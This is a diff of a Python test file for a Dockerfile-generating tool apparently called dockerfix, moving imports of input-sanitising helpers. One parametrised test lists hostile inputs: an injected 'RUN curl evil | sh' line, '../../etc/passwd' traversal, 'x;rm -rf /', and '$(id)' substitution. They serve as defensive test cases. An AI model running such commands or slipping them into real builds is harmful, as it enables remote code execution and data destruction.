@@ -1,8 +1,8 @@
 import pytest
 
-from dockerfix.analyse.model import Requirement
+from dockerfix.model import Requirement
 from dockerfix.errors import InputError
-from dockerfix.render.safe import label_value, safe_path, safe_requirement, shell_quote
+from dockerfix.plan.safe import label_value, safe_path, safe_requirement, shell_quote
 
 
 @pytest.mark.parametrize("hostile", ["a\nRUN curl evil | sh", "../../etc/passwd", "x;rm -rf /", "$(id)", "a b"])
